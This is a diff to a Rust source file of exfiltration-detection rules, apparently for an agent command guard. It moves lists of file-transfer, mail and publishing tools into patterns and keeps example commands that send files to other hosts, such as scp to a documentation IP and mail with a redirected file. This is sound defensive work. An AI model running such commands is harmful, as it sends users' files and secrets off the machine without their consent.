@@ -1,6 +1,6 @@
 //! Data that leaves the machine.
 
-use super::{Category, Check, Rule, RuleInput, Tier};
+use super::{Category, Check, Patterns, RULE, Rule, RuleInput};
 use crate::{
     command::Stdin, file_access::is_remote_path, flatten::is_loopback, programs, secrets,
     shell::RedirectKind, text,
@@ -10,7 +10,6 @@ pub(super) const RULES: &[Rule] = &[
     Rule {
         id: "upload-file",
         category: Category::Exfiltration,
-        tier: Tier::Block,
         finds: "sends a file or the output of a command to another machine",
         instead: "Do not send files away. Test uploads against a server on this machine.",
         check: Check::Command(upload_file),
@@ -28,11 +27,11 @@ pub(super) const RULES: &[Rule] = &[
             "curl -d @data.json http://localhost:8080/",
             "curl -o a.json https://x.example/a.json",
         ],
+        ..RULE
     },
     Rule {
         id: "upload-file-code",
         category: Category::Exfiltration,
-        tier: Tier::Block,
         finds: "sends a file or the environment to another machine in a one-liner",
         instead: "Do not send files away. Test uploads against a server on this machine.",
         check: Check::Command(upload_file_code),
@@ -44,11 +43,11 @@ pub(super) const RULES: &[Rule] = &[
             "python3 -c \"import requests; print(requests.get('https://x.example').text)\"",
             "node -e \"fetch('http://localhost:3000/').then(r=>r.text()).then(console.log)\"",
         ],
+        ..RULE
     },
     Rule {
         id: "upload-secret",
         category: Category::Exfiltration,
-        tier: Tier::Block,
         finds: "puts a secret variable or the output of a command into a request",
         instead: "Do not put secrets into addresses or bodies, and do not ask name servers for them.",
         check: Check::Command(upload_secret),
@@ -63,13 +62,20 @@ pub(super) const RULES: &[Rule] = &[
             "dig +short example.com",
             "ping -c1 localhost",
         ],
+        ..RULE
     },
     Rule {
         id: "copy-to-host",
         category: Category::Exfiltration,
-        tier: Tier::Block,
         finds: "copies files to another machine",
         instead: "Leave copying to other machines to the user.",
+        patterns: Patterns::new(&[
+            "rclone copy|sync|move|copyto|moveto|rcat|serve",
+            "croc ~send",
+            "wormhole|magic-wormhole ~send|tx",
+            "ipfs ~add",
+            "syncthing|transfer|ffsend",
+        ]),
         check: Check::Command(copy_to_host),
         matches: &[
             "scp a user@203.0.113.9:/tmp",
@@ -80,11 +86,11 @@ pub(super) const RULES: &[Rule] = &[
             "wormhole send a",
         ],
         passes: &["rsync -a src/ dst/", "scp --help", "ssh -T git@github.com", "rsync -a host:/a ./a"],
+        ..RULE
     },
     Rule {
         id: "raw-connection",
         category: Category::Exfiltration,
-        tier: Tier::Block,
         finds: "sends data over a bare connection to another machine",
         instead: "Talk to services on this machine only; `nc -z` tests whether a port is open.",
         check: Check::Command(raw_connection),
@@ -100,13 +106,23 @@ pub(super) const RULES: &[Rule] = &[
             "echo PING | nc localhost 6379",
             "(echo > /dev/tcp/127.0.0.1/80)",
         ],
+        ..RULE
     },
     Rule {
         id: "send-message",
         category: Category::Exfiltration,
-        tier: Tier::Block,
         finds: "sends mail, or puts something on a public page",
         instead: "Write it to a file in the project and say so.",
+        patterns: Patterns::new(&[
+            "mail|mailx|mutt|sendmail|msmtp|swaks|ssmtp|exim|neomutt|s-nail ~*",
+            "mail|mailx|mutt|sendmail|msmtp|swaks|ssmtp|exim|neomutt|s-nail <*",
+            "gh gist create|edit",
+            "glab snippet create",
+            "pastebinit|termbin|gist",
+            "gh repo create|fork !--private",
+            "asciinema upload",
+            "gh repo edit ~*visibility*|public",
+        ]),
         check: Check::Command(send_message),
         matches: &[
             "mail -s x a@b.example < a",
@@ -116,11 +132,11 @@ pub(super) const RULES: &[Rule] = &[
             "gh repo edit --visibility public",
         ],
         passes: &["gh pr create --fill", "gh gist list", "git commit -m 'mail'"],
+        ..RULE
     },
     Rule {
         id: "push-to-address",
         category: Category::Exfiltration,
-        tier: Tier::Block,
         finds: "pushes to an address instead of a named remote",
         instead: "Push to the remote of the repository: `git push origin BRANCH`.",
         check: Check::Command(push_to_address),
@@ -135,6 +151,7 @@ pub(super) const RULES: &[Rule] = &[
             "git fetch https://x.example/a.git",
             "git remote add up https://x.example/a.git && git fetch up && git push origin main",
         ],
+        ..RULE
     },
 ];
 
@@ -287,11 +304,6 @@ fn copy_to_host(input: &RuleInput<'_>) -> Option<String> {
             command.is_piped && command.stdin.is_given()
                 || command.redirects.iter().any(|redirect| redirect.kind == RedirectKind::Read)
         }
-        "rclone" => command.runs(&["rclone copy|sync|move|copyto|moveto|rcat|serve"]),
-        "croc" => command.has_word(&["send"]),
-        "magic-wormhole" | "wormhole" => command.has_word(&["send", "tx"]),
-        "ipfs" => command.has_word(&["add"]),
-        "syncthing" | "transfer" | "ffsend" => true,
         _ => false,
     };
     input.found_if(found)
@@ -342,25 +354,8 @@ fn raw_connection(input: &RuleInput<'_>) -> Option<String> {
 
 fn send_message(input: &RuleInput<'_>) -> Option<String> {
     let command = input.command;
-    if command.asks_for_help() {
-        return None;
-    }
-    let mails = command
-        .is(&["mail", "mailx", "mutt", "sendmail", "msmtp", "swaks", "ssmtp", "exim", "neomutt", "s-nail"])
-        && (command.stdin.is_given() || !command.args.is_empty() || command.is_piped);
-    let publishes = command.runs(&[
-        "gh gist create|edit",
-        "glab snippet create",
-        "pastebinit",
-        "termbin",
-        "gh repo create|fork",
-        "asciinema upload",
-        "gist",
-    ]) || (command.runs(&["gh repo edit"])
-        && command.args.iter().any(|arg| arg.contains("visibility") || arg == "public"));
-    input.found_if(
-        mails || (publishes && !(command.runs(&["gh repo create"]) && command.has_word(&["--private"]))),
-    )
+    let mails = command.is(&["mail", "mailx", "mutt", "sendmail", "msmtp", "swaks", "neomutt", "s-nail"]);
+    input.found_if(mails && (command.stdin.is_given() || command.is_piped))
 }
 
 fn push_to_address(input: &RuleInput<'_>) -> Option<String> {
